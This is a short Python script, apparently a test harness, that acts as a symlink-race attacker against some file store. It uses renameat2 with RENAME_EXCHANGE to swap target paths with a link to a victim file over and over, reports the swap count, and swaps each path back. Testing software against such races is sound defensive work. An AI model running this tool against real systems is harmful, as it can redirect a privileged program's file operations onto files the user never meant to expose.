"""The attacker of row 17: swaps paths with links to a victim, over and over, by renameat2(RENAME_EXCHANGE).

usage: exchanger.py VICTIM PATH…; says "ready" once it works, ends when its stdin does, and then says how many swaps
were made. Each path is swapped back before the next one, so what is under attack is there half of the time.
"""

import contextlib
import ctypes
import itertools
import os
import select
import sys

AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)


def exchange(one, other):
    """Let two names change places in one step. Raises OSError."""
    if libc.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE):
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), one)


def main(victim, *paths):
    link = os.path.join(os.path.dirname(victim), f"link{os.getpid()}")
    os.symlink(victim, link)
    swaps = 0
    print("ready", flush=True)
    for number in itertools.count():
        path = paths[number % len(paths)]
        if number % 16 == 0 and select.select([sys.stdin], [], [], 0)[0]:
            break
        try:
            exchange(path, link)
            swaps += 1
        except FileNotFoundError:  # there is no such file at this moment
            continue
        with contextlib.suppress(FileNotFoundError):  # the store took the link away
            exchange(link, path)
        if not os.path.islink(link):  # the store had put a file of its own there
            os.rename(link, f"{link}.{number}")
            os.symlink(victim, link)
    print(swaps, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
